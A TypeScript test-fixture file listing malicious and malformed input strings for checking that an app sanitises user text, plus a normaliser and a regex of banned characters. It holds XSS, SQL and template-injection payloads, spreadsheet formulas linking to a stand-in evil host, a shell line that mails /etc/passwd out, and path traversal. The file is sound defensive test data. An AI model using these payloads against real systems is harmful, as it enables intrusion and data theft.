import { removePastedCharacters } from '#kit/text.ts'

/** Texts that mean something to a browser, a database, a spreadsheet, a mail or a reader's eye. */
export const naughty: Readonly<Record<string, string>> = {
  'a NUL': 'Kim\u0000Albers',
  'an escape': 'Kim \u001B[31mrot\u001B[0m',
  'a bell and a backspace': 'Kim\u0007\u0008\u0008',
  'a lone surrogate': 'Kim \uD83D Albers',
  'a bidi override': 'Kim \u202Egnp.exe',
  'bidi isolates': '\u2067Kim\u2069 \u200FAlbers',
  'zero width': 'Ad\u200Bmin',
  'a soft hyphen': 'Ad\u00ADmin',
  'a byte order mark within': 'Ad\uFEFFmin',
  'a line separator': 'Kim\u2028Albers',
  'a script': '<script>window.__struck = 1</script>',
  'a picture that fails': '"><img src=x onerror="window.__struck=1">',
  'a drawing': "'><svg/onload=window.__struck=1>",
  'an end of a comment': '--><b id="struck">x</b><!--',
  'an address of a script': 'javascript:window.__struck=1',
  'a split address of a script': 'java\tscript:window.__struck=1',
  quotes: `"'\`´ onmouseover="window.__struck=1" x='`,
  entities: '&lt;b&gt;&#x3C;&quot;&amp;amp;',
  'braces of a template': '{{7*7}} {{constructor.constructor("return 1")()}}',
  'a template literal': '${7*7} #{7*7} <%= 7*7 %>'.replaceAll(/<%=|%>/g, '%'),
  'a template of another kind': '{% debug %} @{7*7} *{7*7} [[7*7]]',
  'braces of our own texts': '{requested} {limit} {0} %s %d $1 $& $$',
  'an end of a statement': "Robert'); drop table profiles; --",
  'a condition': "' or '1'='1",
  wildcards: '%_\\%',
  'a backslash at the end': 'Kim\\',
  'a mention of Discord': '<@&1234> <@1234> <#1234> <t:0> @everyone',
  'a header': 'Kim\r\nBcc: opfer@example.test',
  'a line of a calendar': 'Luna\nEND:VEVENT\nBEGIN:VEVENT',
  'marks of a calendar': 'Luna;X=1,Y\\n:Z',
  'a formula': '=HYPERLINK("http://evil.test","klick")',
  'a formula with a plus': '+1+cmd|calc',
  'a formula with a minus': '-2+3',
  'a formula with an at': '@SUM(1+1)',
  'a tab and a formula': '\t=1+1',
  'marks of Telegram': '*fett* _schräg_ [klick](http://evil.test) `x` ```y``` ~z~ ||w||',
  'an open mark of Telegram': 'Luna_* [',
  'a command': '; cat /etc/passwd | mail x@y.test `id` $(id)',
  'a way up': '../../../../etc/passwd',
  'a device': 'CON nul aux',
  'a name of every object': '__proto__',
  'right to left': 'مرحبا بالعالم שלום',
  emoji: 'Kim 👩🏽‍💻 👨‍👩‍👧 🏳️‍🌈',
  'stacked accents': 'Z\u0351\u036B\u0343\u036A\u0302a\u0329\u0310l\u0312g\u0344o\u0351',
  'wide signs': 'Ｋｉｍ ﷽ 𒐫',
  'something like null': 'null undefined NaN true 1e309',
}

/** For what is no text: short, and past every schema that only looks at the length. */
export const rude: readonly string[] = ['\u0000', '\uD800', "a'b\\", '😀\r\n%00']

/** As a text is stored: without invisible characters that copying adds, trimmed, and with line feeds for all line breaks. */
export const normal = (text: string): string =>
  removePastedCharacters(text)
    .replaceAll(/\r\n?|[\u2028\u2029]/g, '\n')
    .trim()

/** Characters that no stored text contains, whatever was sent. */
export const harmful = /(?![\n\t])[\p{Cc}\u00AD\u061C\u200B\u202A-\u202E\u2060\u2066-\u2069\uFEFF]|\p{Cs}/u
